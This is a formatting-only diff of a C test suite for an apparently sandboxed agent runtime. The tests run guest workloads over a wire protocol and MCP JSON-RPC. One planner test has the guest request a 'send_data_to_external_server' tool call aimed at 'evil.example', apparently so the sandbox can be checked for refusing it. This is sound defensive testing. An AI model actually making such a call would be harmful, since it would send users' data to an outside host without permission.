@@ -45,10 +45,10 @@ static void set_patience(int fd)
 {
 	const struct timeval t = { PATIENCE_S, 0 };
 
-	assert_int_equal(
-		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t)), 0);
-	assert_int_equal(
-		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof(t)), 0);
+	assert_int_equal(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t)),
+			 0);
+	assert_int_equal(setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof(t)),
+			 0);
 }
 
 static void rig_hello(struct rig *r, const char *args)
@@ -88,9 +88,9 @@ static void rig_start(struct rig *r, const char *args, struct span item)
 	assert_int_equal(chan_pair(broker), 0);
 	assert_int_equal(
 		socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, wire), 0);
-	r->pid = getenv("BULKHEAD_LIBEXEC") ?
-			 spawn_porter(monitor[1], broker[1], wire[1], item_fd) :
-			 fork();
+	r->pid = getenv("BULKHEAD_LIBEXEC")
+			 ? spawn_porter(monitor[1], broker[1], wire[1], item_fd)
+			 : fork();
 	assert_true(r->pid >= 0);
 	if (r->pid == 0) {
 		const struct session_fds fds = { monitor[1], broker[1], wire[1],
@@ -341,8 +341,9 @@ static void short_ack(struct rig *r)
 
 static void oversized(struct rig *r)
 {
-	static const uint8_t head[] = { 1, 0, 1, 0, WIRE_DATA, WIRE_READER,
-					0, 0 };
+	static const uint8_t head[] = {
+		1, 0, 1, 0, WIRE_DATA, WIRE_READER, 0, 0
+	};
 
 	guest_open(r);
 	guest_write(r, span_of(head, sizeof(head)));
@@ -544,11 +545,11 @@ static void test_faults(void **state)
 	for (i = 0; i < ARRAY_SIZE(faults); i++) {
 		/* Deadlines are short only where they are what is tested. */
 		const char *args =
-			faults[i].want == WIRE_DEADLINE ?
-				"workload=reader-email deadline_ms=200 "
-				"handshake_ms=200" :
-				"workload=reader-email deadline_ms=10000 "
-				"handshake_ms=10000";
+			faults[i].want == WIRE_DEADLINE
+				? "workload=reader-email deadline_ms=200 "
+				  "handshake_ms=200"
+				: "workload=reader-email deadline_ms=10000 "
+				  "handshake_ms=10000";
 		struct rig r;
 
 		rig_start(&r, args, SPAN_LIT("item"));
@@ -718,7 +719,9 @@ static void test_no_reading(void **state)
 static void test_bad_hello(void **state)
 {
 	static const char *const args[] = {
-		"", "workload=reader-email", "deadline_ms=1",
+		"",
+		"workload=reader-email",
+		"deadline_ms=1",
 		"workload=x deadline_ms=1",
 		"workload=reader-email deadline_ms=0",
 		"workload=reader-email deadline_ms=1 more=1",
@@ -758,8 +761,8 @@ static void test_stop(void **state)
 /* --- planners ---------------------------------------------------------- */
 
 #define PLANNER "workload=planner-triage deadline_ms=20000"
-#define LINE(id, method, params)                                   \
-	"{\"jsonrpc\":\"2.0\",\"id\":" id ",\"method\":\"" method \
+#define LINE(id, method, params)                                               \
+	"{\"jsonrpc\":\"2.0\",\"id\":" id ",\"method\":\"" method              \
 	"\",\"params\":" params "}\n"
 #define INIT LINE("0", "initialize", "{\"protocolVersion\":\"2025-06-18\"}")
 
@@ -776,8 +779,8 @@ static json_t *reply(struct rig *r, int id)
 	json_t *doc;
 	size_t n;
 
-	while (!(newline = r->got.n ? memchr(r->got.p, '\n', r->got.n) :
-				      NULL)) {
+	while (!(newline =
+			 r->got.n ? memchr(r->got.p, '\n', r->got.n) : NULL)) {
 		assert_true(guest_next(r, &f));
 		assert_int_equal(f.type, WIRE_DATA);
 		assert_int_equal(f.service, WIRE_MCP);
@@ -897,8 +900,8 @@ static void test_planner(void **state)
 
 	(void)state;
 	planner_open(&r, PLANNER);
-	say(&r, LINE("1", "tools/call", "{\"name\":\"task.get\"}")
-		LINE("2", "tools/list", "{}") LINE("3", "tools/list", "{}")
+	say(&r, LINE("1", "tools/call", "{\"name\":\"task.get\"}") LINE(
+			"2", "tools/list", "{}") LINE("3", "tools/list", "{}")
 			LINE("4", "tools/call",
 			     "{\"name\":\"send_data_to_external_server\","
 			     "\"arguments\":{\"target\":\"evil.example\"}}"));
@@ -943,9 +946,9 @@ static void test_planner_in_one_breath(void **state)
 	(void)state;
 	planner_open(&r, PLANNER);
 	say(&r, LINE("1", "tools/call", "{\"name\":\"x\"}")
-		LINE("2", "tools/call",
-		     "{\"name\":\"task.answer\",\"arguments\":"
-		     "{\"text\":\"bye\"}}"));
+			LINE("2", "tools/call",
+			     "{\"name\":\"task.answer\",\"arguments\":"
+			     "{\"text\":\"bye\"}}"));
 	guest_finish(&r, WIRE_MCP);
 	fd_close(&r.wire);
 	broker_deny(&r, "x", &m);
@@ -1025,10 +1028,10 @@ static void test_planner_faults(void **state)
 	for (i = 0; i < ARRAY_SIZE(planner_faults); i++) {
 		struct rig r;
 
-		planner_open(&r, planner_faults[i].want == WIRE_DEADLINE ?
-					 "workload=planner-gullible "
-					 "deadline_ms=1000" :
-					 PLANNER);
+		planner_open(&r, planner_faults[i].want == WIRE_DEADLINE
+					 ? "workload=planner-gullible "
+					   "deadline_ms=1000"
+					 : PLANNER);
 		planner_faults[i].guest(&r);
 		hear_fault(&r, planner_faults[i].name, planner_faults[i].want);
 		assert_int_equal(rig_stop(&r), 0);
